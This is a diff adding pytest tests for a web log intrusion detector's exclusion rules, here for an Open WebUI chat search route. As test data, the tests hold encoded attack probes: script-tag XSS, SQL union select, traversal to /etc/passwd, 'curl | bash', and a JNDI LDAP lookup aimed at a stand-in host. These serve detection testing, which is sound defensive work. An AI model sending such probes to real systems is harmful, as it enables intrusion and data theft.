@@ -461,3 +461,125 @@ def test_a_line_that_cannot_be_processed_is_not_blamed_on_the_format(
     assert "a line holds text that is not valid Unicode" in err
     assert "surrogates not allowed" in err
     assert "--format" not in err
+
+
+# --------------------------------------------------------------------------- exclusions
+
+
+SEARCH = "/api/v1/chats/search?text={}&page=1"
+
+
+def _shipped_detector() -> RulesDetector:
+    return RulesDetector(RulesConfig(rules_dir=None))
+
+
+def test_search_text_on_a_served_app_route_is_no_finding() -> None:
+    """Injection-looking text a user searched for in Open WebUI (answered 200) makes no
+    finding, whatever the rule family it resembles."""
+    det = _shipped_detector()
+    for text in (
+        "document.cookie%20httponly",
+        "%3Cscript%3E%20tag",
+        "union%20select%20postgres",
+        "sleep(5)%20python",
+        "%7B%7B7*7%7D%7D%20jinja",
+        "curl%20%7C%20bash",
+        "javascript%3A%20void(0)",
+        "..%2F..%2Fetc%2Fpasswd",
+    ):
+        assert det.observe(req(SEARCH.format(text), status=200)) is None, text
+
+
+def test_the_same_probe_answered_otherwise_or_elsewhere_is_still_banned() -> None:
+    """The route's search text answered 401/403/404 (a scanner, no session), a probe in
+    another parameter, on another route or outside the covered families still gives a
+    HIGH finding."""
+    probes = [
+        (SEARCH.format("%3Cscript%3Ealert(1)%3C/script%3E"), 401),
+        (SEARCH.format("%3Cscript%3Ealert(1)%3C/script%3E"), 403),
+        (SEARCH.format("%3Cscript%3Ealert(1)%3C/script%3E"), 404),
+        ("/api/v1/chats/search?text=hello&page=1%20union%20select%201,2", 200),
+        ("/api/v1/chats/search/..%2F..%2Fetc%2Fpasswd?text=x", 200),
+        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
+        ("/index.php?id=1%20union%20select%201,2,3", 200),
+        ("/search?text=%3Cscript%3Ealert(1)%3C/script%3E", 200),
+        (SEARCH.format("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D"), 200),
+    ]
+    for path, status in probes:
+        found = _shipped_detector().observe(req(path, status=status))
+        assert found is not None, (path, status)
+        assert found.severity >= Severity.HIGH
+
+
+def test_exclusion_parameter_names_are_compared_decoded_and_folded() -> None:
+    """``TeXt=`` and ``te%78t=`` name the excluded parameter; ``textx=`` does not."""
+    det = _shipped_detector()
+    assert det.observe(req("/api/v1/chats/search?TeXt=%3Cscript%3E", status=200)) is None
+    assert det.observe(req("/api/v1/chats/search?te%78t=%3Cscript%3E", status=200)) is None
+    found = det.observe(req("/api/v1/chats/search?textx=%3Cscript%3E", status=200))
+    assert found is not None
+
+
+LOCAL_EXCLUSION = """
+[[exclusions]]
+id = "wiki-search"
+description = "our wiki's search box"
+path.prefix = ["/wiki/search"]
+params = ["Q"]
+rules = ["xss-probe"]
+status = [200, "3xx"]
+"""
+
+
+def test_local_exclusions_load_narrow_and_turn_off_shipped_ones(tmp_path: Path) -> None:
+    """A local [[exclusions]] table applies to the rules it names, on its statuses; an
+    ``enabled = false`` one turns off a shipped exclusion of that id."""
+    write(tmp_path, "a.toml", LOCAL_EXCLUSION)
+    matcher = Matcher((ruleset := load_rules(tmp_path)).rules, exclusions=ruleset.exclusions)
+    ids = lambda path, status: [r.id for r in matcher.match(req(path, status=status))[0]]  # noqa: E731
+    assert ids("/wiki/search?q=%3Cscript%3E", 200) == []
+    assert ids("/wiki/search?q=%3Cscript%3E", 302) == []
+    assert ids("/wiki/search?q=%3Cscript%3E", 204) == ["xss-probe"]
+    assert ids("/wiki/search?q=union%20select%201", 200) == ["sqli-union-select"]
+    assert {x.id for x in ruleset.exclusions} >= {"wiki-search", "open-webui-search-text"}
+    write(tmp_path, "b.toml", '[[exclusions]]\nid = "open-webui-search-text"\nenabled = false\n')
+    ruleset = load_rules(tmp_path)
+    assert "open-webui-search-text" not in {x.id for x in ruleset.exclusions}
+    matcher = Matcher(ruleset.rules, exclusions=ruleset.exclusions)
+    assert ids(SEARCH.format("%3Cscript%3E"), 200) == ["xss-probe"]
+
+
+def test_shipped_exclusions_load_whatever_packs_selects() -> None:
+    """Choosing packs keeps the shipped exclusions (they narrow rules, they match nothing)."""
+    ruleset = RulesConfig(rules_dir=None, packs=("injection",)).ruleset
+    assert "open-webui-search-text" in {x.id for x in ruleset.exclusions}
+
+
+def test_bad_exclusions_are_reported_with_file_id_key_and_reason(tmp_path: Path) -> None:
+    """An exclusion without routes, parameters or rules, or with a bad status, is refused
+    naming the file, the table, the key and the reason."""
+    no_params = LOCAL_EXCLUSION.replace('params = ["Q"]\n', "")
+    bad_status = LOCAL_EXCLUSION.replace("wiki-search", "bad-status").replace('200, "3xx"', '"2xy"')
+    bad = write(tmp_path, "bad.toml", no_params + bad_status)
+    with pytest.raises(RulesError) as info:
+        load_rules(tmp_path, builtin=False)
+    text = "\n".join(info.value.problems)
+    assert (
+        f"{bad}: exclusions[0] (id 'wiki-search'): <exclusion>: an enabled exclusion needs params"
+        in text
+    )
+    assert f"{bad}: exclusions[1] (id 'bad-status'): status" in text
+
+
+def test_explain_says_which_exclusion_excused_a_rule(capsys: pytest.CaptureFixture[str]) -> None:
+    """explain shows the rule that matched and the exclusion that took it off."""
+    line = (
+        '192.0.2.7 - - [01/Jan/2025:00:00:00 +0000] "GET /api/v1/chats/search?text='
+        '%3Cscript%3E HTTP/1.1" 200 5 "-" "Mozilla/5.0"'
+    )
+    assert main(["explain", line, "--json"]) == 0
+    record = json.loads(capsys.readouterr().out.splitlines()[0])
+    assert [(r["id"], r["excused_by"]) for r in record["rules"]] == [
+        ("xss-probe", "open-webui-search-text")
+    ]
+    assert record["detectors"] == []
